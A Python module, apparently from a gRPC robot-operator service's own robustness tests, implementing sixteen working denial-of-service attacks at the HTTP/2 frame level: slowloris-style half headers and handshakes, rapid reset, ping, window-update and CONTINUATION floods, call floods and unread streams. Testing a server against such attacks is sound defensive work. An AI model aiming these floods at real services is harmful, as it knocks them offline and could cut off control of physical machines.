"""The attacks: each goes on until it is killed, and says once that it is under way.

Run as ``python -m proof.attacks.attackers NAME ADDRESS [AUTHORITY CERTIFICATE KEY]``.
"""

from __future__ import annotations

import contextlib
import itertools
import os
import resource
import socket
import ssl
import sys
import threading
import time
from collections import deque
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Final

import grpc

from proof.attacks.wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    connect,
    frame,
    head_of_call,
)
from spot_protos import operator_pb2

PATH: Final = "/spot_rl.operator.v1.Operator/"
IDLE_CONNECTIONS: Final = 600
"""More than four times what the door takes from clients without a role."""
HANGING_CALLS: Final = 300
Tls = tuple[Path, Path, Path] | None


class Attack:
    """What one attacker knows."""

    def __init__(self, address: str, tls: Tls) -> None:
        self.address, self.tls = address, tls
        self._sockets: list[socket.socket] = []

    def open(self) -> socket.socket:
        """One more connection, kept open."""
        made = connect(self.address, self.tls)
        self._sockets.append(made)
        return made

    def channel(self, number: int = 0) -> grpc.Channel:
        """A gRPC channel with a connection of its own for each number."""
        options = [("grpc.use_local_subchannel_pool", 1), ("attack", number)]
        if self.tls is None:
            return grpc.insecure_channel(self.address, options)
        authority, certificate, key = (path.read_bytes() for path in self.tls)
        return grpc.secure_channel(self.address, grpc.ssl_channel_credentials(authority, key, certificate), options)


def ready() -> None:
    """Say that it is under way."""
    sys.stdout.write("ready\n")
    sys.stdout.flush()


def nothing(_: Attack) -> None:
    """No attack, for comparison."""
    ready()
    threading.Event().wait()


def idle_connections(attack: Attack) -> None:
    """Hundreds of connections that say nothing; whatever is closed is opened again."""
    for _ in range(IDLE_CONNECTIONS):
        with contextlib.suppress(OSError):
            attack.open()
    ready()
    while True:
        with contextlib.suppress(OSError):
            connect(attack.address).close()
        time.sleep(0.002)


def hanging_calls(attack: Attack) -> None:
    """Calls of every method over many connections whose message never comes."""

    def never() -> Iterator[bytes]:
        threading.Event().wait()
        yield b""

    def hang(channel: grpc.Channel, name: str) -> Any:
        call: Any = channel.stream_unary(PATH + name)
        return call.future(never())

    names = ("Stop", "Damp", "Attend", "GetStatus", "Arm", "SetVelocity")
    calls: list[Any] = []
    channels = [attack.channel(number) for number in range(10)]
    for channel, number in itertools.product(channels, range(HANGING_CALLS // 10)):
        calls.append(hang(channel, names[number % len(names)]))
    time.sleep(0.5)
    ready()
    while True:
        channel = channels[len(calls) % len(channels)]
        calls.append(hang(channel, names[len(calls) % len(names)]))
        del calls[:-1000]
        time.sleep(0.005)


def half_headers(attack: Attack) -> None:
    """Connections in the middle of a call's head, a byte of it now and then."""
    sockets = []
    head = frame(HEADERS, 0, 1, head_of_call(PATH + "Stop")[:20])
    for _ in range(200):
        with contextlib.suppress(OSError):
            one = attack.open()
            one.sendall(PREFACE + frame(SETTINGS, 0, 0) + head)
            sockets.append(one)
    ready()
    while True:
        for one in sockets:
            with contextlib.suppress(OSError):
                one.sendall(frame(CONTINUATION, 0, 1, b"\x00"))
            time.sleep(0.005)


def connection_storm(attack: Attack) -> None:
    """Connections that are opened and closed as fast as it goes."""
    ready()
    while True:
        with contextlib.suppress(OSError):
            one = connect(attack.address)
            one.send(PREFACE[:3])
            one.close()


def heads_in_a_storm(attack: Attack) -> None:
    """Connections that are opened and closed as fast as it goes, each with thirty calls without a message."""
    ready()
    while True:
        _heads(attack)


def processes(attack: Attack) -> None:
    """The same, each connection by a process of its own."""
    ready()
    while True:
        child = os.fork()
        if child == 0:
            _heads(attack)
            os._exit(0)
        os.waitpid(child, 0)


def _heads(attack: Attack) -> None:
    with contextlib.suppress(OSError):
        one = connect(attack.address, attack.tls)
        head = head_of_call(PATH + "Stop")
        calls = b"".join(frame(HEADERS, END_HEADERS, number, head) for number in range(1, 60, 2))
        one.sendall(PREFACE + frame(SETTINGS, 0, 0) + calls)
        time.sleep(0.001)
        one.close()


def half_handshakes(attack: Attack) -> None:
    """Connections in the middle of a handshake of TLS, or of HTTP/2's first words; new ones all the time."""
    begun = PREFACE[:9]
    if attack.tls is not None:
        hello, told = ssl.create_default_context(), ssl.MemoryBIO()
        half = hello.wrap_bio(ssl.MemoryBIO(), told, server_hostname="localhost")
        with contextlib.suppress(ssl.SSLWantReadError):
            half.do_handshake()
        begun = told.read()
    sockets: deque[socket.socket] = deque(maxlen=300)
    ready()
    while True:
        with contextlib.suppress(OSError):
            sockets.append(connect(attack.address))
            sockets[-1].sendall(begun)
        time.sleep(0.002)


def trickled_messages(attack: Attack) -> None:
    """Calls whose messages come byte by byte."""
    head, sockets = head_of_call(PATH + "StartLog"), []
    calls = b"".join(frame(HEADERS, END_HEADERS, n, head) + frame(DATA, 0, n, b"\0\0\0\xff\0") for n in range(1, 60, 2))
    for _ in range(50):
        with contextlib.suppress(OSError):
            sockets.append(attack.open())
            sockets[-1].sendall(PREFACE + frame(SETTINGS, 0, 0) + calls)
    ready()
    while True:
        for one, number in itertools.product(sockets, range(1, 60, 2)):
            with contextlib.suppress(OSError):
                one.sendall(frame(DATA, 0, number, b"\x0a"))
        time.sleep(0.01)


def attendance(attack: Attack) -> None:
    """Calls that are never too often, as often as it goes."""
    _call_flood(attack, "Attend")


def _flood(attack: Attack, send: Callable[[socket.socket], None]) -> None:
    """Send on one connection as fast as it takes it; again on a new one where that was cut."""
    is_told = False
    while True:
        with contextlib.suppress(OSError):
            one = connect(attack.address, attack.tls)
            one.sendall(PREFACE + frame(SETTINGS, 0, 0))
            if not is_told:
                is_told = True
                ready()
            send(one)
        time.sleep(0.01)


def rapid_resets(attack: Attack) -> None:
    """Calls that are started and broken off at once."""
    head = head_of_call(PATH + "GetStatus")

    def send(one: socket.socket) -> None:
        for number in range(1, 1 << 30, 2):
            one.sendall(frame(HEADERS, END_HEADERS, number, head) + frame(RST_STREAM, 0, number, b"\0\0\0\x08"))

    _flood(attack, send)


def pings(attack: Attack) -> None:
    """Pings and settings without an end."""
    many = (frame(PING, 0, 0, b"attacked") + frame(SETTINGS, 0, 0)) * 100

    def send(one: socket.socket) -> None:
        while True:
            one.sendall(many)

    _flood(attack, send)


def windows(attack: Attack) -> None:
    """Calls whose answers have no room, and window updates of one byte without an end."""
    head = head_of_call(PATH + "GetStatus")
    calls = b"".join(frame(HEADERS, END_HEADERS, n, head) + frame(DATA, 1, n, bytes(5)) for n in range(1, 60, 2))
    closed = frame(SETTINGS, 0, 0, b"\0\x04" + bytes(4))
    many = frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * 100

    def send(one: socket.socket) -> None:
        one.sendall(closed + calls)
        while True:
            one.sendall(many)

    _flood(attack, send)


def continuations(attack: Attack) -> None:
    """A call's head that never ends."""
    part = frame(CONTINUATION, 0, 1, b"\0\x01a\x01b") * 100

    def send(one: socket.socket) -> None:
        one.sendall(frame(HEADERS, 0, 1, head_of_call(PATH + "Stop")))
        while True:
            one.sendall(part)

    _flood(attack, send)


def call_flood(attack: Attack) -> None:
    """Good calls over several connections, as many at once as each takes."""
    _call_flood(attack, "GetStatus")


def _call_flood(attack: Attack, name: str) -> None:
    channels = [attack.channel(number) for number in range(8)]

    def flood(channel: grpc.Channel) -> None:
        room = threading.Semaphore(200)
        call: Any = channel.unary_unary(PATH + name)
        while True:
            room.acquire()
            call.future(b"").add_done_callback(lambda _: room.release())

    for channel in channels:
        threading.Thread(target=flood, args=(channel,), daemon=True).start()
    time.sleep(0.5)
    ready()
    threading.Event().wait()


def silent_readers(attack: Attack) -> None:
    """Streams of status that are never read."""
    sockets = []
    head = head_of_call(PATH + "WatchStatus")
    body = operator_pb2.WatchStatusRequest(rate_hz=10.0).SerializeToString()
    message = b"\0" + len(body).to_bytes(4, "big") + body
    for _ in range(100):
        with contextlib.suppress(OSError):
            one = attack.open()
            one.sendall(
                PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, head) + frame(0, 1, 1, message)
            )
            sockets.append(one)
    ready()
    threading.Event().wait()


ATTACKS: Final[dict[str, Callable[[Attack], None]]] = {
    "nothing": nothing,
    "idle connections": idle_connections,
    "hanging calls": hanging_calls,
    "half headers": half_headers,
    "half handshakes": half_handshakes,
    "connection storm": connection_storm,
    "heads in a storm": heads_in_a_storm,
    "processes": processes,
    "rapid resets": rapid_resets,
    "pings": pings,
    "windows": windows,
    "continuations": continuations,
    "trickled messages": trickled_messages,
    "call flood": call_flood,
    "attendance": attendance,
    "silent readers": silent_readers,
}


def main() -> None:
    """Attack until killed."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    name, address, *files = sys.argv[1:]
    tls = (Path(files[0]), Path(files[1]), Path(files[2])) if files else None
    ATTACKS[name](Attack(address, tls))


if __name__ == "__main__":
    main()
